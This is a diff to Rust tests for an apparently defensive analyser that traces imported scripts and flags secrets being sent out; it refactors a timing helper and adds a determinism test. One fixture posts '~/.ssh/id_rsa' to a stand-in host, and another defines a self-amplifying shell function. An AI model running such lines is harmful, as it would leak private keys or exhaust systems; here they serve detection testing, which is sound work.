@@ -140,30 +140,29 @@ fn a_script_with_more_parameters_than_marks_is_summed_up_in_turns() {
     assert_eq!(sent(&files, "main.py"), [Sensitive::Keys]);
 }
 
-/// Follows every script of `files`, within [`MOST`], and says the same of each a second time.
-fn follow_all(files: &[(String, String)]) {
+/// What some of the scripts of `files` are told to do, which takes no longer than [`MOST`].
+fn follow(files: &[(String, String)]) -> Vec<String> {
     let start = Instant::now();
     let bundle = bundle(files);
     let units = units(&bundle, None);
     let facts = Facts::default();
-    let all = || {
-        let links = Links::of(&bundle, &units);
-        let told = bundle.files().iter().rev().step_by(97).map(|file| {
-            let view = FileView::new(file, &units[0], &facts);
-            let scripts = Scripts::of(&view.linked_with(links.get(&file.path)));
-            format!("{:?}", scripts.all)
-        });
-        told.collect::<Vec<String>>()
-    };
-    assert_eq!(all(), all(), "each time the same is told");
+    let links = Links::of(&bundle, &units);
+    let some = bundle.files().iter().rev().step_by(97);
+    let told = some.map(|file| {
+        let view = FileView::new(file, &units[0], &facts);
+        let scripts = Scripts::of(&view.linked_with(links.get(&file.path)));
+        format!("{:?}", scripts.all)
+    });
+    let told = told.collect();
     let took = start.elapsed();
     assert!(took < MOST, "{} scripts take {took:?}", files.len());
+    told
 }
 
-#[test]
-fn a_thousand_scripts_that_load_each_other_come_to_an_end() {
+/// `count` scripts of which each loads up to 120 others, and calls one of them and itself.
+fn tangle(count: usize) -> Vec<(String, String)> {
     let file = |n: usize| {
-        let loaded = |step: usize| (n * 7 + step * 13) % 1_000;
+        let loaded = |step: usize| (n * 7 + step * 13) % count;
         let imports: Vec<String> = (1..120)
             .map(|step| format!("import m{}", loaded(step)))
             .collect();
@@ -174,7 +173,18 @@ fn a_thousand_scripts_that_load_each_other_come_to_an_end() {
         );
         (format!("m{n}.py"), text)
     };
-    follow_all(&(0..1_000).map(file).collect::<Vec<_>>());
+    (0..count).map(file).collect()
+}
+
+#[test]
+fn a_thousand_scripts_that_load_each_other_come_to_an_end() {
+    follow(&tangle(1_000));
+}
+
+#[test]
+fn scripts_that_load_each_other_are_told_the_same_each_time() {
+    let files = tangle(98);
+    assert_eq!(follow(&files), follow(&files));
 }
 
 #[test]
@@ -194,7 +204,7 @@ fn a_long_chain_is_followed_from_end_to_end() {
         "import m0, requests\nrequests.post('https://in.example.net', data=m0.f('~/.ssh/id_rsa'))\n".to_owned(),
     ));
     assert_eq!(sent(&files, "main.py"), [Sensitive::Keys]);
-    follow_all(&files);
+    follow(&files);
 }
 
 #[test]
@@ -212,9 +222,9 @@ fn functions_that_do_much_with_what_they_are_given_are_bounded() {
     let text =
         "import m0\n".to_owned() + &"m0.f('python3 -c \"import m0; m0.f(1)\"')\n".repeat(500);
     files.push(("main.py".to_owned(), text));
-    follow_all(&files);
+    follow(&files);
     let itself = "f() { \"$1\" \"$@\" \"$@\"; }\n";
-    follow_all(&owned(&[
+    follow(&owned(&[
         ("a.sh", itself),
         ("b.sh", "source a.sh\nf f f f f\n"),
     ]));
